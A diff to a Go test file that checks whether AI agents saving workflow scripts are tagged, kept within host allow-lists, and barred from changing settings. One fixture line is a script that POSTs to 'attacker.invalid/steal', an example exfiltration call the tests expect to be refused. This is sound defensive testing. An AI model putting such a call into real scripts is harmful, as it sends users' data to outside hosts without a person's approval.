@@ -1,7 +1,10 @@
 package main
 
 import (
+	"bytes"
 	"encoding/json"
+	"fmt"
+	"io"
 	"net/http"
 	"slices"
 	"strings"
@@ -121,6 +124,87 @@ func TestACodingAgentSuggestsAFix(t *testing.T) {
 	require.Equal(t, "1.1", h.object("workflow", "show", "Orders")["version"])
 }
 
+// Whatever way in an agent takes, what it saves goes through what a planner's save does, and it changes nothing that says how far it may go.
+func TestWhatAnAgentSavesIsNoPersons(t *testing.T) {
+	t.Parallel()
+	h := newHome(t)
+	h.hold("Held")
+	h.create("Free", "function main() { return 1 }")
+	h.ok("workflow", "run", "Free")
+	e := h.serveRemote()
+	token := func(holder string) string {
+		return decodeAs[struct{ Token string }](t, e.ends(terminal.ExitOK, "token", "create", holder, "--holder", holder, "--person", "codex", "--scope", "read,run,edit,decide", "-o", "json").out).Token
+	}
+	agents, persons, programs := token("agent"), token("person"), token("program")
+	ask := func(token, method, path string, body any) (string, bool) {
+		text, err := json.Marshal(body)
+		require.NoError(t, err)
+		request, err := http.NewRequestWithContext(t.Context(), method, e.url+"/api/v1"+path, bytes.NewReader(text))
+		require.NoError(t, err)
+		request.Header.Set("Content-Type", "application/json")
+		request.Header.Set("Authorization", "Bearer "+token)
+		response, err := http.DefaultClient.Do(request)
+		require.NoError(t, err)
+		defer response.Body.Close()
+		answer, err := io.ReadAll(response.Body)
+		require.NoError(t, err)
+		return string(answer), response.StatusCode >= 300
+	}
+	byTool := func(a *agent) func(title, code string) (string, bool) {
+		return func(title, code string) (string, bool) {
+			return a.call("save_script", map[string]any{"workflow": title, "script": code, "comment": "by an agent"})
+		}
+	}
+	byCommand := func(token string) func(title, code string) (string, bool) {
+		return func(title, code string) (string, bool) {
+			r := e.process(token, code, "script", "save", title, "--file", "-", "--comment", "x")
+			return r.out + r.err, r.code != terminal.ExitOK
+		}
+	}
+	id := func(title string) string { return "/workflows/" + h.object("workflow", "show", title)["id"].(string) }
+	byOperation := func(title, code string) (string, bool) {
+		return ask(agents, http.MethodPost, id(title)+"/versions", map[string]any{"code": code})
+	}
+	origin := func() any {
+		versions := h.objects("script", "list", "Free")
+		return versions[len(versions)-1]["origin"]
+	}
+	next := 1
+	script := func() string { next++; return fmt.Sprintf("function main() { return %d }", next) }
+	stealing := "async function main() { return await web.fetch('https://attacker.invalid/steal', {method: 'POST'}) }"
+	for way, save := range map[string]func(title, code string) (string, bool){
+		"MCP on this machine": byTool(h.stdio()), "MCP with a person's token": byTool(e.agent(persons)), "the API": byOperation, "a command": byCommand(agents),
+	} {
+		h.ok("workflow", "settings", "Free", "--auto-fix", "auto")
+		text, refused := save("Free", script())
+		require.False(t, refused, "%s: %s", way, text)
+		require.Equal(t, "agent", origin(), way)
+		text, refused = save("Free", stealing)
+		require.True(t, refused, way)
+		require.Contains(t, text, "no person has named attacker.invalid", way)
+		text, refused = save("Held", script())
+		require.True(t, refused, way)
+		require.Contains(t, text, "a fix waits for a person", way)
+		h.ok("workflow", "settings", "Free", "--auto-fix", "proven")
+		h.ok("workflow", "run", "Free")
+		text, refused = save("Free", script())
+		require.True(t, refused, way)
+		require.Contains(t, text, "only what repeats the recorded runs", way)
+	}
+	text, refused := ask(agents, http.MethodPut, id("Free")+"/settings", map[string]any{"allowed_hosts": []string{"attacker.invalid"}})
+	require.True(t, refused)
+	require.Contains(t, text, "only a person may change settings")
+	said := e.process(agents, "", "workflow", "settings", "Free", "--allow-host", "attacker.invalid")
+	require.NotEqual(t, terminal.ExitOK, said.code)
+	require.Contains(t, said.err, "only a person may change settings")
+	require.NotEmpty(t, h.objects("fix", "list", "--state", "held"), "it waits still")
+
+	// A pipeline saves what people decided.
+	text, refused = byCommand(programs)("Free", stealing)
+	require.False(t, refused, text)
+	require.Equal(t, "program", origin())
+}
+
 // An agent sees the tools that its token allows, and no token lets it decide what waits for a person.
 func TestACodingAgentDoesWhatItsTokenAllows(t *testing.T) {
 	t.Parallel()
@@ -145,8 +229,9 @@ func TestACodingAgentDoesWhatItsTokenAllows(t *testing.T) {
 	}), all)
 
 	editor := e.agent(token("read,edit"))
-	editor.ok("save_script", map[string]any{"workflow": "Held", "script": "function main() { return 2 }", "comment": "by an agent"})
-	require.Contains(t, e.ends(terminal.ExitOK, "history", "Held", "-o", "json").out, `"person:codex"`, "the history has who it was")
+	e.home.create("Mine", "function main() { return 1 }")
+	editor.ok("save_script", map[string]any{"workflow": "Mine", "script": "function main() { return 2 }", "comment": "by an agent"})
+	require.Contains(t, e.ends(terminal.ExitOK, "history", "Mine", "-o", "json").out, `"person:codex"`, "the history has who it was")
 
 	// Without a token that counts nobody is let in.
 	for _, shown := range []string{"", "Bearer", "Bearer x", "Bearer " + e.token + "x", "Basic " + e.token} {
